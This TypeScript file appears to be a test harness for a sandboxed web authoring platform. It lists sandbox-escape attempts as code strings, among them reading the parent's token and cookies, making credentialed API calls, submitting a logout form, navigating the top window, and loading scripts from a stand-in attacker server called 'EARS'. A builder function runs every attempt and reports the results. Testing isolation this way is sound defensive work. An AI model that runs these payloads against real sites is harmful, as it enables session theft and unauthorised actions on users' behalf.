import type { Host } from './host.ts'

/**
 * Attempts to reach an author's data. `STUDIO` and `WORKS` are origins, `EARS` is the server of the attacker, which
 * records all requests. Each returns what it obtained, or throws.
 */
export const ESCAPE_ATTEMPTS: Record<string, string> = {
  'the token in the storage of the parent': "return parent.localStorage.getItem('token')",
  'the document of the top window': 'return top.document.title',
  'the API with the session of the visitor':
    "const answer = await fetch('STUDIO/api/users/me', { credentials: 'include' }); return answer.status",
  'the API of the works, which counts likes':
    "const answer = await fetch('WORKS/api/likes', { credentials: 'include' }); return answer.status",
  cookies: 'return document.cookie',
  'the window that opened it': 'return window.opener.location.href',
  'a message to the studio':
    "parent.postMessage({ type: 'PAGE_NAVIGATE', pageId: 'second' }, '*'); return 'sent'",
  'a worker of the studio': "new Worker('STUDIO/assets/worker.js'); return 'begun'",
  'a module of another site': "await import('STUDIO/assets/index.js'); return 'loaded'",
  'a script of another site': "importScripts('STUDIO/assets/index.js'); return 'loaded'",
  'a service worker': "await navigator.serviceWorker.register('/h5/sw.js'); return 'registered'",
  'the address of the top window': "top.location.href = 'STUDIO/'; return 'gone'",
  'a form post to the studio':
    "const form = document.createElement('form'); form.action = 'STUDIO/api/users/logout'; form.method = 'post'; document.body.append(form); form.submit(); return 'sent'",
  'frames of the page': 'return parent.frames[0].document.body.innerHTML',
  'a worker of its own that asks the studio':
    "return await new Promise((done, fail) => { const code = new Blob([`fetch('STUDIO/api/users/me',{credentials:'include'}).then((a)=>postMessage(a.status),()=>postMessage('refused'))`]); const inner = new Worker(URL.createObjectURL(code)); inner.onmessage = ({ data }) => data === 'refused' ? fail(new Error('refused')) : done(data); inner.onerror = () => fail(new Error('no worker')); setTimeout(() => fail(new Error('no answer')), 1500) })",
  'a page out of its own data':
    "const frame = document.createElement('iframe'); frame.src = 'data:text/html,<script>parent.x=1</script>'; document.body.append(frame); return 'shown'",
  'a database of the origin':
    "return await new Promise((done, fail) => { const asked = indexedDB.open('x'); asked.onsuccess = () => done('opened'); asked.onerror = () => fail(new Error('refused')) })",
  'a request to its own server': "await fetch('EARS/fetch', { mode: 'no-cors' }); return 'sent'",
  'a module of its own server': "await import('EARS/module.js'); return 'loaded'",
  'a script of its own server': "importScripts('EARS/script.js'); return 'loaded'",
  'a stylesheet of its own server':
    "await import('EARS/sheet.css', { with: { type: 'css' } }); return 'loaded'",
  'data of its own server':
    "await import('EARS/data.json', { with: { type: 'json' } }); return 'loaded'",
  'a line that stays open to its own server':
    "return await new Promise((done, fail) => { const line = new EventSource('EARS/line'); line.onopen = () => done('open'); line.onerror = () => fail(new Error('refused')) })",
  'a module within a worker of its own':
    "return await new Promise((done, fail) => { const code = new Blob([`import('EARS/nested.js').then(()=>postMessage('loaded'),()=>postMessage('refused'))`]); const inner = new Worker(URL.createObjectURL(code), { type: 'module' }); inner.onmessage = ({ data }) => data === 'refused' ? fail(new Error('refused')) : done(data); inner.onerror = () => fail(new Error('no worker')); setTimeout(() => fail(new Error('no answer')), 1500) })",
  'a worker without end within its own':
    "new Worker(URL.createObjectURL(new Blob(['for (;;) {}']))); return 'begun'",
  'raw memory': 'return new Uint8Array(1 << 20).length',
  'a drawing surface': 'return new OffscreenCanvas(9, 9).width',
  'a socket':
    "return await new Promise((done, fail) => { const one = new WebSocket('STUDIO/'.replace('http', 'ws')); one.onopen = () => done('open'); one.onerror = () => fail(new Error('refused')) })",
}

/** Builds a script that makes the attempts one after the other and reports the results. */
export function buildEscapeScript(host: Host, ears: string): string {
  const filled = (code: string) =>
    code.replaceAll('STUDIO', host.studio).replaceAll('WORKS', host.works).replaceAll('EARS', ears)
  const list = Object.entries(ESCAPE_ATTEMPTS).map(
    ([name, code]) => `[${JSON.stringify(name)}, async () => { ${filled(code)} }]`,
  )
  return `const said = []
for (const [name, attempt] of [${list.join(',\n')}]) {
  let ended
  try { ended = 'REACHED ' + String(await attempt()) } catch (error) { ended = error.name + ': ' + error.message }
  said.push(name + ' -> ' + ended.slice(0, 20))
}
setText(said.join('\\n'), 'Report')
`
}
